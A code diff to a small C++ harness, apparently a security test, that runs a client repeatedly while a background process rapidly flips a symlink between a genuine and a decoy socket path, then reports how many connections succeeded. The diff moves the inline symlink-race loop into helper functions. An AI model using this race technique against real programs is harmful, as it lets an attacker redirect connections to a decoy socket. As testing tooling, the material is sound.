@@ -8,7 +8,6 @@
 //
 // usage: socket_swap CLIENT LINK GENUINE DECOY SOCKET TRIES
 #include <signal.h>
-#include <sys/prctl.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -29,20 +28,7 @@ int main(int argc, char** argv) {
     const std::string decoy = argv[4];
     const std::string socket = link + "/" + argv[5];
     const int tries = std::atoi(argv[6]);
-    const pid_t flipper = ::fork();
-    if (flipper == 0) {
-        // Ends with this program, however it ends.
-        ::prctl(PR_SET_PDEATHSIG, SIGKILL);
-        const std::string next = link + ".next";
-        for (unsigned i = 0;; ++i) {
-            ::unlink(next.c_str());
-            if (::symlink((i % 2 == 0 ? genuine : decoy).c_str(), next.c_str()) != 0 ||
-                ::rename(next.c_str(), link.c_str()) != 0) {
-                _exit(1);
-            }
-            ::usleep(50);
-        }
-    }
+    const pid_t flipper = attack::startLinkFlipper(link, genuine, decoy, 50);
     int connected = 0;
     for (int i = 0; i < tries; ++i) {
         const pid_t run = ::fork();
@@ -61,8 +47,7 @@ int main(int argc, char** argv) {
             ++connected;
         }
     }
-    ::kill(flipper, SIGKILL);
-    ::waitpid(flipper, nullptr, 0);
+    attack::stopLinkFlipper(flipper);
     attack::report(tries, connected);
     return 0;
 }
